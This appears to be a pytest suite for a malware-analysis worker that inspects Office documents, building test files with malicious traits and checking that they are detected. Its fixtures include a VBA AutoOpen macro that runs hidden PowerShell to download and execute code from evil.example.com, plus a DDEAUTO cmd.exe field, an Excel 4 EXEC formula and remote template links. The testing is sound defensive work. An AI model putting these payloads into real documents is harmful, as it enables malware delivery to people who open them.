import io
import os
import random
import struct
import zipfile

import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from tests.unit.workers.ole import compound, vba_project
from workers.filetype import filetype
from workers.office import office

AUTO = """Attribute VB_Name = "Module1"
Sub AutoOpen()
  Set s = CreateObject("WScript.Shell")
  s.Run "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/x')"
End Sub
"""
PLAIN = 'Attribute VB_Name = "Module1"\nSub Total()\n  Range("A1").Value = 1\nEnd Sub\n'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def ooxml(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("[Content_Types].xml", TYPES)
        for name, content in parts.items():
            container.writestr(name, content)
    return buffer.getvalue()


def docx(body: str = "", **parts: bytes | str) -> bytes:
    document = f'<w:document xmlns:w="{WORD}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return ooxml({"word/document.xml": document, **parts})


def docm(code: str, **parts: bytes) -> bytes:
    return docx(**{"word/vbaProject.bin": compound(vba_project({"Module1": code})), **parts})


def relations(kind: str, target: str) -> str:
    about = f'Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"'
    return f"<Relationships><Relationship {about}/></Relationships>"


def traits(findings):
    return {trait.name for trait in findings.result.traits}


def test_a_document_without_anything(analyse):
    """An ordinary document has no score and no problems."""
    findings = analyse(office, docx("<w:r><w:t>Hello</w:t></w:r>"))
    assert (findings.score, traits(findings), findings.result.problems) == (-1, set(), [])


@pytest.mark.parametrize("old", [False, True])
def test_a_macro_that_starts_and_fetches(analyse, old):
    """The source is read, kept as evidence, judged by what it does; its address is an indicator."""
    content = compound({"WordDocument": bytes(4096), **vba_project({"Module1": AUTO})}) if old else docm(AUTO)
    findings = analyse(office, content)
    assert {"macro", "macro-starts-by-itself", "downloads", "creates-shell"} <= traits(findings)
    assert findings.score == 100
    assert "CreateObject" in findings.result.macros[0].code
    assert "AutoOpen" in findings.evidence[0].path.read_text()
    assert "hxxp://evil[.]example[.]com/x" in [each.value for each in findings.result.indicators]


def test_a_harmless_macro_counts_little(analyse):
    """A macro that only calculates is noticed and hardly scored."""
    findings = analyse(office, docm(PLAIN))
    assert (findings.score, traits(findings)) == (10, {"macro"})


def test_dde(analyse):
    """A DDE field's command is shown."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    command = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
    field = f"{begin}<w:r><w:instrText>{command}</w:instrText></w:r>{end}"
    findings = analyse(office, docx(field))
    assert "cmd.exe" in findings.result.fields[0]
    assert "dde" in traits(findings)
    assert findings.score >= 50


def test_macro_sheets(analyse):
    """Excel 4 formulas in a new workbook's macro sheet are read."""
    formula = '<row><c r="A1"><f>EXEC("cmd.exe /c calc")</f></c></row>'
    sheet = f'<xm:macrosheet xmlns="x"><sheetData>{formula}</sheetData></xm:macrosheet>'
    findings = analyse(office, ooxml({"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": sheet}))
    assert findings.result.macro_sheets[0].code == '=EXEC("cmd.exe /c calc")'
    assert {"macro-sheet", "runs-interpreter"} <= traits(findings)


@pytest.mark.parametrize(
    ("kind", "target", "score"),
    [
        ("attachedTemplate", "http://evil.example.com/t.dotm", 50),
        ("attachedTemplate", "\\\\198.51.100.7\\share\\t.dotm", 50),
        ("oleObject", "mhtml:http://evil.example.com/x!x", 40),
        ("attachedTemplate", "file:///C:\\Templates\\Normal.dotm", -1),
        ("hyperlink", "http://www.example.com/", -1),
    ],
)
def test_remote_parts(analyse, kind, target, score):
    """A template from the network is a trick; a local one and a link for the reader are not."""
    findings = analyse(office, docx(**{"word/_rels/settings.xml.rels": relations(kind, target)}))
    assert findings.score == score
    assert "http:" not in findings.result.remote_parts[0].target


def package(name: str, content: bytes) -> bytes:
    """An OLE package's native stream."""
    body = struct.pack("<H", 2) + name.encode() + b"\0" + name.encode() + b"\0" + bytes(8)
    body += name.encode() + b"\0" + struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


def test_embedded_files_become_children(analyse):
    """A package in an old document, a part in a new one: both are handed on; a program counts."""
    program = b"MZ" + os.urandom(100)
    native = {"WordDocument": bytes(4096), "ObjectPool/\x01Ole10Native": package("x.exe", program)}
    old = analyse(office, compound(native))
    new = analyse(office, docx(**{"word/embeddings/oleObject1.bin": program}))
    for findings, name in ((old, "x.exe"), (new, "oleObject1.bin")):
        assert [(child.name, child.path.read_bytes()) for child in findings.children] == [(name, program)]
        assert traits(findings) == {"embedded-program"}


def encrypted(password: str) -> bytes:
    """A document locked by msoffcrypto, which cannot write one of less than 4 KiB."""
    plain, locked = io.BytesIO(docm(AUTO, **{"word/media/noise.bin": os.urandom(8192)})), io.BytesIO()
    OOXMLFile(plain).encrypt(password, locked)
    return locked.getvalue()


def test_a_document_locked_to_pass_scanners(analyse):
    """Excel's silent password is tried; what it opens is read, handed on, and suspicious."""
    findings = analyse(office, encrypted("VelvetSweatshop"))
    assert (findings.result.encrypted, findings.result.password) == (True, "VelvetSweatshop")
    assert {"locked-to-pass-scanners", "macro"} <= traits(findings)
    (child,) = findings.children
    assert zipfile.is_zipfile(child.path)


def test_a_locked_document(analyse):
    """Without the password only the lock is known; with the operator's, all of it."""
    content = encrypted("s3cret")
    shut = analyse(office, content)
    assert (shut.result.encrypted, shut.result.password, shut.score, shut.children) == (True, "", -1, [])
    opened = analyse(office, content, options={"office.passwords": "s3cret"})
    assert "macro" in traits(opened)


def test_an_exploited_class(analyse):
    """An object of the class behind CVE-2017-0199 is recognised by its number."""
    number = bytes.fromhex("0003000000000000c000000000000046")
    content = compound({"WordDocument": bytes(4096)}, clsid=number)
    assert "exploited-class" in traits(analyse(office, content))


def test_the_made_documents_are_what_they_should_be(analyse):
    """The documents of these tests are routed here by their classification."""
    for content, type_ in ((docm(AUTO), "docx"), (compound({"WordDocument": bytes(4096)}), "doc")):
        assert analyse(filetype, content).classification.type == type_
        assert type_ in office.accepts


def test_broken_documents(analyse):
    """However broken, a document is read as far as it goes and its problems are named."""
    noise = random.Random(11)
    for content in (docm(AUTO), compound({"WordDocument": bytes(4096), **vba_project({"M": PLAIN})})):
        for _ in range(25):
            copy = bytearray(content[: noise.randrange(600, len(content))])
            for _ in range(10):
                copy[noise.randrange(len(copy))] = noise.randrange(256)
            analyse(office, bytes(copy))
    for garbage in (b"", b"x", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)):
        assert analyse(office, garbage).result.problems
